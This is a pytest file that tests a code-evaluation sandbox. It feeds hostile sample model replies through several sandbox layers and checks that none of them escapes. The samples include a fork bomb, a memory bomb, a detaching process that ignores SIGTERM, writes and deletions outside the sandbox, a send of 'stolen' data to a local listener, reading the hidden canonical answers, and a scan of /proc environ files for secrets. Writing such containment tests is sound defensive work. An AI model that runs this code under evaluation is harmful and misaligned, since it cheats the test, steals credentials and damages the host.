"""Hostile and broken model replies, each fed through the real agent and sandbox by the replay
model, under each layer (bwrap, process) and executor (fresh interpreter, warm fork server).

Every case asserts: the task is not fixed, the run goes on (the next task is scored normally),
nothing outside the sandbox changed, no process is left behind, and the harness's own memory
stays bounded. Where the process layer cannot prevent a case, only the check it names is an
xfail naming the limit, and a failure once that check holds. Set
HUMANFIX_BAD_INPUTS_TABLE=<file> to record what happened in each case, then
`python tests/unit/sandbox/test_bad_inputs.py <file>` prints the table.
"""

from __future__ import annotations

import ctypes
import json
import os
import resource
import signal
import socket
import sys
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from pytest_humanfix.dataset import load_tasks
from pytest_humanfix.jsonl import read_jsonl
from pytest_humanfix.sandbox.cgroup import open_cgroups
from pytest_humanfix.sandbox.choose import Choice, make_sandbox
from pytest_humanfix.sandbox.environment import Limits, SandboxError
from pytest_humanfix.session.runner import Runner
from pytest_humanfix.session.state import RunState
from pytest_humanfix.settings import Settings

TASK = "Python/2"  # truncate_number: a quick test, so hostile code is all that takes time
NEXT_TASK = "Python/0"
TIMEOUT = 2.0
MEMORY_GROWTH_LIMIT = 64 << 20  # the harness reads capped output and nothing else
LIMITS = Limits(timeout=TIMEOUT, memory_bytes=768 << 20)

CGROUPS, CGROUPS_WHY = open_cgroups()

# (layer, executor); the warm executor needs cgroups, and says so where they are missing
# (`warm_needs_cgroups`).
CONFIGS = [pytest.param(config, id="-".join(config)) for config in
           (("bwrap", "fresh"), ("bwrap", "warm"), ("process", "fresh"), ("process", "warm"))]


def reply(body: str, before: str = "") -> str:
    """A chat reply holding `before` (top-level code, run at import) and the function."""
    return (f"Here is the fix:\n\n```python\n{before}\n"
            f"def truncate_number(number: float) -> float:\n{body}\n```\n")


@dataclass(frozen=True)
class Case:
    name: str
    text: str  # the reply; {tok}, {home}, {port} are filled in per test
    process_limit: str | None = None  # why the process layer cannot prevent it
    needs_cgroups: str | None = None  # what only a cgroup bounds, where one is missing
    limited: tuple[str, ...] = ()  # the checks (`test_bad_input`) the limit lets fail


CASES = [
    Case("sys.exit(0) at import", reply("    return number % 1.0",
                                        "_ = __import__('sys').exit(0)")),
    Case("os._exit(0) at import", reply("    return number % 1.0",
                                        "_ = __import__('os')._exit(0)")),
    Case("sys.exit(0) during the tests", reply("    import sys\n    sys.exit(0)")),
    Case("os._exit(0) during the tests", reply("    import os\n    os._exit(0)")),
    Case("SystemExit raised in the function", reply("    raise SystemExit(0)")),
    Case("infinite loop", reply("    while True:\n        pass")),
    Case("memory bomb", reply("    hog = []\n    while True:\n"
                              "        hog.append(bytearray(1 << 26))\n        hog[-1][::4096] = b'x' * (1 << 14)")),
    Case("fork bomb", reply("    import os\n    while True:\n        try:\n            os.fork()\n"
                            "        except OSError:\n            pass"),
         needs_cgroups="root ignores RLIMIT_NPROC; only a pids cgroup bounds a fork bomb",
         limited=("left",)),
    Case("gigabytes of output", reply("    import sys\n    block = 'x' * (1 << 20)\n"
                                      "    for _ in range(4096):\n        sys.stdout.write(block)\n"
                                      "        sys.stderr.write(block)")),
    Case("network connection to a loopback listener", reply(
        "    import socket\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
        "    s.sendall(b'stolen {tok}')\n    return number % 1.0")),
    Case("writing files outside its folder", reply(
        "    for path in ('/tmp/humanfix-escape-{tok}', '{home}/humanfix-escape-{tok}'):\n"
        "        try:\n            open(path, 'w').write('escaped')\n"
        "        except OSError as exc:\n            print(exc)\n    return None"),
        process_limit="the process layer runs as the harness's user: it may write where "
                      "that user may (/tmp, the home folder)", limited=("outside",)),
    Case("deleting a canary file in the home folder", reply(
        "    import os\n    os.remove('{home}/humanfix-canary-{tok}')\n    return None"),
        process_limit="the process layer runs as the harness's user: it may delete that "
                      "user's files", limited=("outside",)),
    Case("reading the dataset's canonical solutions", reply(
        "    try:\n        if 'canonical_solution' in open('{dataset}').read():\n"
        "            print('ANSWERS-VISIBLE')\n    except OSError as exc:\n        print(exc)\n"
        "    return None"),
        process_limit="the process layer can read every file the harness's user can, the "
                      "dataset's canonical solutions included", limited=("answers",)),
    Case("ignoring SIGTERM", reply("    import signal\n"
                                   "    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
                                   "    while True:\n        pass")),
    Case("grandchild that detaches and outlives the run", reply(
        "    import os, time\n    if os.fork() == 0:\n        os.setsid()\n"
        "        if os.fork() == 0:\n            time.sleep(60)\n            open('/tmp/humanfix-late-{tok}', 'w')\n"
        "        os._exit(0)\n    time.sleep(0.2)\n    return None"),
        needs_cgroups="a process that leaves its session is reaped only through its cgroup "
                      "(or the bwrap PID namespace)", limited=("left",)),
    Case("input()", reply("    return float(input())")),
    Case("unbounded recursion", reply("    return truncate_number(number + 1)")),
    Case("unbounded recursion with the limit lifted", reply(
        "    import sys\n    sys.setrecursionlimit(10 ** 8)\n"
        "    def down(n):\n        return down(n + 1) + 1\n    return down(0)")),
    Case("syntax error", reply("    return number % 1.0 +")),
    Case("reply without the entry point", "```python\ndef something_else(x):\n    return x\n```"),
]

# Reads its own environment and every /proc/<pid>/environ it can see; run by a pytester test,
# so that the secret is in the pytest process's environment from its start.
SECRET_SEARCH = reply(
    "    import os\n    print('env', dict(os.environ))\n"
    "    for pid in os.listdir('/proc'):\n        try:\n"
    "            for var in open('/proc/' + pid + '/environ', 'rb').read().split(b'\\0'):\n"
    "                if b'SECRET' in var:\n                    print(pid, var)\n"
    "        except (OSError, ValueError):\n            pass\n    return None")
# As root, the candidate's capabilities are dropped, which keeps it from the harness's /proc.
PROC_LIMIT = ("the process layer shares /proc: the same user reads the harness's "
              "/proc/<pid>/environ") if os.geteuid() != 0 else None

_choices: dict[tuple[str, str], Choice] = {}


def resident_pids() -> set[int]:
    """The warm executors' servers, their bwrap holders and the child each forks ahead for its
    next execution: they stay by design."""
    return set().union(*(getattr(c.sandbox, "resident_pids", set()) for c in _choices.values()))


@pytest.fixture(scope="module")
def choice_for(dataset: Path) -> Callable[[tuple[str, str]], Choice]:
    """One sandbox per configuration and worker, shared by the cases as in a real run."""
    def choice(config: tuple[str, str]) -> Choice:
        if config not in _choices:
            _choices[config] = make_sandbox(config[0], config[1], LIMITS,
                                            hidden=(str(dataset),))
        return _choices[config]

    return choice


@pytest.fixture(scope="module")
def tasks(dataset: Path) -> dict:
    return {t.task_id: t for t in load_tasks(str(dataset))}


@pytest.fixture
def subreaper():
    """Orphans of this process's descendants come back to it, so detached ones are found."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
    yield
    libc.prctl(36, 0, 0, 0, 0)


def _stat(pid: int) -> tuple[int, str] | None:
    try:
        text = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return None
    fields = text.rsplit(")", 1)[1].split()
    return int(fields[1]), fields[0]  # ppid, state


def living_descendants(exclude: set[int]) -> set[int]:
    table = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit() and (stat := _stat(int(entry))) is not None:
            table[int(entry)] = stat
    found, frontier = set(), {os.getpid()}
    while frontier:
        frontier = {pid for pid, (ppid, _) in table.items() if ppid in frontier} - found
        found |= frontier
    for pid in [p for p in found if table[p][1] == "Z" and table[p][0] == os.getpid()]:
        try:
            os.waitpid(pid, os.WNOHANG)  # an orphan handed to us; never one subprocess waits on
        except ChildProcessError:
            pass
    return {p for p in found if table[p][1] not in ("Z", "X")} - exclude


def leftovers(exclude: set[int], grace: float = 3.0) -> set[int]:
    """Processes still alive after the grace period, apart from `exclude` and the resident ones
    (read again each time: a warm executor forks its next child after an execution)."""
    deadline = time.monotonic() + grace
    while (alive := living_descendants(exclude | resident_pids())) \
            and time.monotonic() < deadline:
        time.sleep(0.05)
    return alive


def evaluate(tmp_path: Path, tasks: dict, choice: Choice, config: tuple[str, str], task_id: str,
             text: str):
    replay = tmp_path / f"replay-{uuid.uuid4().hex[:6]}.jsonl"
    replay.write_text(json.dumps({"task_id": task_id, "completion": text}) + "\n")
    settings = Settings(model=f"replay:{replay}", sandbox=config[0], executor=config[1],
                        timeout=TIMEOUT)
    runner = Runner(settings, RunState("bad-inputs"), sandbox_choice=choice)
    return runner.evaluate(tasks[task_id])


def record_row(case: str, config: tuple[str, str], happened: str) -> None:
    table = os.environ.get("HUMANFIX_BAD_INPUTS_TABLE")
    if table:
        line = json.dumps({"case": case, "config": "-".join(config), "happened": happened})
        with open(table, "a", encoding="utf-8") as handle:
            handle.write(line + "\n")


def home_folder() -> Path:
    return Path.home().resolve()


def warm_needs_cgroups(config: tuple[str, str],
                       choice_for: Callable[[tuple[str, str]], Choice]) -> None:
    """Without cgroups the warm executor refuses to start, saying why: an xfail naming that,
    and nothing else of the test is run; should it start, the test goes on."""
    if config[1] == "warm" and CGROUPS is None:
        with pytest.raises(SandboxError, match="needs writable cgroups"):
            choice_for(config)
        pytest.xfail(f"warm executor needs writable cgroups: {CGROUPS_WHY}")


def only_the_limit_fails(limit: str | None, failing: list[str]) -> None:
    """The checks a named limit covers fail, as it says (an xfail naming it), and once they
    hold the test fails, so that a limit gone is seen (a strict xfail's XPASS)."""
    if limit is None:
        assert not failing, "; ".join(failing)
    elif failing:
        pytest.xfail(f"{limit}: {'; '.join(failing)}")
    else:
        pytest.fail(f"[XPASS(strict)] {limit}: no longer so; take the limit off the case")


@pytest.mark.parametrize("config", CONFIGS)
@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_bad_input(case: Case, config: tuple[str, str], tasks: dict, tmp_path: Path,
                   choice_for, dataset: Path, subreaper) -> None:
    limit = case.process_limit if config[0] == "process" else None
    if case.needs_cgroups and CGROUPS is None and config[0] == "process":
        limit = f"{case.needs_cgroups} ({CGROUPS_WHY})"
    warm_needs_cgroups(config, choice_for)
    choice = choice_for(config)  # the executor starts before the harness's memory is measured
    # Processes other tests of this worker left running are not this case's.
    before = living_descendants(resident_pids())
    tok = uuid.uuid4().hex[:12]
    home = home_folder()
    canary = home / f"humanfix-canary-{tok}"
    canary.write_text(tok)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    escapes = [Path(f"/tmp/humanfix-escape-{tok}"), home / f"humanfix-escape-{tok}",
               Path(f"/tmp/humanfix-late-{tok}")]
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10
    try:
        text = case.text.replace("{tok}", tok).replace("{home}", str(home)).replace(
            "{port}", str(listener.getsockname()[1])).replace("{dataset}", str(dataset))
        result = evaluate(tmp_path, tasks, choice, config, TASK, text)
        left = leftovers(before)
        for pid in left:
            os.kill(pid, signal.SIGKILL)
        try:
            connection, _ = listener.accept()
            connection.settimeout(1)
            heard = connection.recv(100) or b"(a connection)"
        except BlockingIOError:
            heard = b""
        verdict = result.verdict or {}
        changed = [str(p) for p in escapes if p.exists()]
        if not canary.exists():
            changed.append(f"{canary} deleted")
        grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10) - rss_before
        answers_seen = "ANSWERS-VISIBLE" in verdict.get("stdout", "")
        next_result = evaluate(tmp_path, tasks, choice, config, NEXT_TASK,
                               f"```python\n{tasks[NEXT_TASK].canonical_code}```")
        happened = f"{result.outcome}: {verdict.get('status', '-')} " \
                   f"(exit {verdict.get('exit_code')}): " \
                   f"{(result.failure or result.error).splitlines()[-1][:70]}"
        refused = [line for line in verdict.get("stdout", "").splitlines() if "Errno" in line]
        if refused:
            happened += "; refused: " + " / ".join(refused)
        for problem, present in (("changed " + ", ".join(changed), changed),
                                 (f"left {len(left)} process(es)", left),
                                 (f"listener heard {heard!r}", heard),
                                 ("read the answers", answers_seen)):
            if present:
                happened += f"; {problem}"
        record_row(case.name, config, happened)
        failed = {name: message for name, held, message in (
            ("unfixed", result.outcome == "unfixed", happened),
            ("output", len(verdict.get("stdout", "")) + len(verdict.get("stderr", "")) < 64 << 10,
             "the output kept is not bounded"),
            ("went on", next_result.outcome == "fixed", "the run did not go on after this case"),
            ("outside", not changed, f"outside the sandbox: {changed}"),
            ("left", not left, f"{len(left)} process(es) left behind: {sorted(left)}"),
            ("network", not heard, f"the listener heard {heard!r}"),
            ("answers", not answers_seen, "the candidate read the dataset's canonical solutions"),
            ("memory", grown < MEMORY_GROWTH_LIMIT, f"the harness grew by {grown >> 20} MiB"),
        ) if not held}
        limited = case.limited if limit else ()
        # Every check the limit does not name holds, whatever the layer...
        only_the_limit_fails(None, [m for name, m in failed.items() if name not in limited])
        # ...and those it names fail as it says.
        if limit:
            only_the_limit_fails(limit, [m for name, m in failed.items() if name in limited])
    finally:
        listener.close()
        for path in escapes:
            path.unlink(missing_ok=True)
        canary.unlink(missing_ok=True)


@pytest.mark.parametrize("config", CONFIGS)
def test_secret_in_pytest_environment(config: tuple[str, str], humanfix_pytester, tasks: dict,
                                      choice_for,
                                      monkeypatch: pytest.MonkeyPatch, records_by_task) -> None:
    """The secret is in the pytest process's environment from its start (so it is in its
    /proc/<pid>/environ too); the candidate looks everywhere and must not find it."""
    warm_needs_cgroups(config, choice_for)
    secret = uuid.uuid4().hex
    replay = humanfix_pytester.path / "replay.jsonl"
    replay.write_text(
        json.dumps({"task_id": TASK, "completion": SECRET_SEARCH}) + "\n"
        + json.dumps({"task_id": NEXT_TASK,
                      "completion": f"```python\n{tasks[NEXT_TASK].canonical_code}```"}) + "\n")
    monkeypatch.setenv("HUMANFIX_TEST_SECRET", secret)
    run = humanfix_pytester.runpytest_subprocess(
        f"--humanfix-model=replay:{replay}", f"--humanfix-task={NEXT_TASK},{TASK}",
        f"--humanfix-sandbox={config[0]}", f"--humanfix-executor={config[1]}",
        "--humanfix-timeout=5", "--humanfix-timeout-floor=5", "-p", "no:cacheprovider")
    records = records_by_task()
    run.assert_outcomes(passed=1, failed=1)
    hostile = records[TASK]
    assert hostile["outcome"] == "unfixed" and records[NEXT_TASK]["outcome"] == "fixed"
    assert (hostile["verdict"]["layer"], hostile["verdict"]["executor"]) == config
    assert "env {" in hostile["verdict"]["stdout"], "the candidate did not run its search"
    seen = secret in hostile["verdict"]["stdout"]
    record_row("secret in the pytest process's environment (pytester run)", config,
               f"unfixed: {hostile['verdict']['status']}; "
               + ("READ the secret from /proc" if seen else "secret not visible"))
    only_the_limit_fails(PROC_LIMIT if config[0] == "process" else None,
                         ["the candidate read the secret"] if seen else [])


def render_table(path: Path) -> str:
    rows = read_jsonl(path, "raise")
    configs = sorted({r["config"] for r in rows})
    order = [c.name for c in CASES]
    cases = sorted(dict.fromkeys(r["case"] for r in rows),
                   key=lambda name: order.index(name) if name in order else len(order))
    cell = {(r["case"], r["config"]): r["happened"].replace("|", "/") for r in rows}
    lines = ["| case | " + " | ".join(configs) + " |", "|---" * (len(configs) + 1) + "|"]
    for case in cases:
        lines.append(f"| {case} | " + " | ".join(cell.get((case, c), "") for c in configs) + " |")
    return "\n".join(lines)


if __name__ == "__main__":
    print(render_table(Path(sys.argv[1])))
